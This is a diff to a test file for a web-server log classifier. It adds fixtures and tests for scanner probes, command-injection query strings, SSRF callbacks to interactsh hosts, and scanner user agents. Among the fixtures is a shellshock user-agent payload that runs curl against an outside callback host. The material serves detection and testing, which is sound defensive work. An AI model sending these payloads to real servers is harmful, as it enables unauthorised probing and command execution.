@@ -28,6 +28,7 @@ from upkeeper.logs.classify import (
     ATTACK_PATTERNS,
     attack_categories,
     attack_category,
+    counted_category,
     decode_request,
     is_bot,
     normalize_endpoints,
@@ -232,21 +233,25 @@ CATEGORIES = [
     (b"GET /x?cmd=/bin/bash HTTP/1.1", "command_injection"),
     (b"GET /x?run=cmd.exe HTTP/1.1", "command_injection"),
     (b"GET /x?run=PowerShell HTTP/1.1", "command_injection"),
-    # scanner probes
+    # scanner probes (software_probe: paths of software a site may run, a probe only when answered 4xx)
     (b"GET /.env HTTP/1.1", "scanner_probe"),
     (b"GET /.git/config HTTP/1.1", "scanner_probe"),
-    (b"GET /wp-login.php HTTP/1.1", "scanner_probe"),
-    (b"GET /wp-admin/setup-config.php HTTP/1.1", "scanner_probe"),
-    (b"GET /phpmyadmin/index.php HTTP/1.1", "scanner_probe"),
+    (b"GET /wp-login.php HTTP/1.1", "software_probe"),
+    (b"GET /wp-admin/setup-config.php HTTP/1.1", "software_probe"),
+    (b"GET /phpmyadmin/index.php HTTP/1.1", "software_probe"),
     (b"GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", "scanner_probe"),
     (b"GET /cgi-bin/luci HTTP/1.1", "scanner_probe"),
     (b"GET /actuator/env HTTP/1.1", "scanner_probe"),
     (b"GET /server-status HTTP/1.1", "scanner_probe"),
-    (b"GET /jmx-console HTTP/1.1", "scanner_probe"),
+    (b"GET /jmx-console HTTP/1.1", "software_probe"),
     (b"GET /backup.sql HTTP/1.1", "scanner_probe"),
     (b"GET /config.php.bak HTTP/1.1", "scanner_probe"),
     (b"GET /site.zip HTTP/1.1", "scanner_probe"),
-    (b"POST /xmlrpc.php HTTP/1.1", "scanner_probe"),
+    (b"POST /xmlrpc.php HTTP/1.1", "software_probe"),
+    # nuclei's blind SSRF/XXE templates: a callback host of interactsh's public servers in the request
+    (b"GET /proxy?url=http://cdq4e2o9a8b7c6d5e4f3g2h1i0j9k8l7m.oast.live HTTP/1.1", "scanner_probe"),
+    (b"GET /fetch?u=https%3A%2F%2Fcdq4e2o9a8b7c6d5e4f3g2h1i0j9k8l7m.oast.site%2Fx HTTP/1.1", "scanner_probe"),
+    (b"GET /redirect?to=abc.interact.sh HTTP/1.1", "scanner_probe"),
     # nothing
     *((b, None) for b in BENIGN),
     (b"GET /api/v1/authors/12/orders?sort=price HTTP/1.1", None),
@@ -255,6 +260,8 @@ CATEGORIES = [
     (b"GET /select HTTP/1.1", None),
     (b"GET /env HTTP/1.1", None),
     (b"GET /download/report.pdf HTTP/1.1", None),
+    (b"GET /scripts/interact.sh HTTP/1.1", None),
+    (b"GET /blog/toast.fun HTTP/1.1", None),
 ]
 
 
@@ -267,6 +274,17 @@ def test_attack_category(line: bytes, category: str | None) -> None:
     assert set(found) <= {len(BENIGN)}
     if category is not None:
         assert len(BENIGN) in re2_candidates(lines)  # and so does the pyarrow path's pre-filter
+
+
+@pytest.mark.parametrize(("category", "status", "counted"), [
+    ("software_probe", 404, "scanner_probe"), ("software_probe", 400, "scanner_probe"),
+    ("software_probe", 403, "scanner_probe"), ("software_probe", 499, "scanner_probe"),
+    ("software_probe", 200, None), ("software_probe", 302, None), ("software_probe", 500, None),
+    ("software_probe", None, None), ("scanner_probe", 200, "scanner_probe"), ("xss", 302, "xss"),
+])
+def test_software_paths_count_as_probes_only_when_answered_4xx(category: str, status: int | None,
+                                                                 counted: str | None) -> None:
+    assert counted_category(category, status) == counted
 
 
 # -- real traffic, as nginx logged it (tests/logs/corpus/README.md says who sent it) ------------------
@@ -378,6 +396,18 @@ AGENTS = [
     (b"Mozilla/5.0 zgrab/0.x", True, "zgrab"),
     (b"Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", True, "nuclei"),
     (b"WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", True, "wpscan"),
+    # nikto's documented user agent (program/nikto.conf.default: "Mozilla/5.00 (Nikto/@VERSION) (Evasions:@EVASIONS)
+    # (Test:@TESTID)"); since 2.5 its default is a plain Chrome 74 one, a browser's, which names nobody
+    (b"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:map_codes)", True, "nikto"),
+    (b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 "
+     b"Safari/537.36", False, None),
+    # nuclei sends a random browser's user agent; a payload in it calls back to interactsh's public servers
+    # (nuclei's README: -interactsh-server default oast.pro,oast.live,oast.site,oast.online,oast.fun,oast.me)
+    (b"Mozilla/5.0 (X11; Linux x86_64) () { :; }; curl http://cdq4e2o9a8b7c6d5e4f3g2h1i0j9k8l7m.oast.fun",
+     True, "shellshock"),
+    (b"Mozilla/5.0 http://cdq4e2o9a8b7c6d5e4f3g2h1i0j9k8l7m.oast.pro/ssrf", True, "interactsh"),
+    (b"Mozilla/5.0 (compatible; x.interact.sh)", True, "interactsh"),
+    (b"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0 toast.fun", False, None),
     (b"masscan/1.3", True, "masscan"),
     # as a real nginx logged them: ffuf 1.1.0, wfuzz 3.1.0, gobuster 3.5, nmap 7.93's scripts (Debian 12)
     (b"Fuzz Faster U Fool v1.1.0", True, "ffuf"),
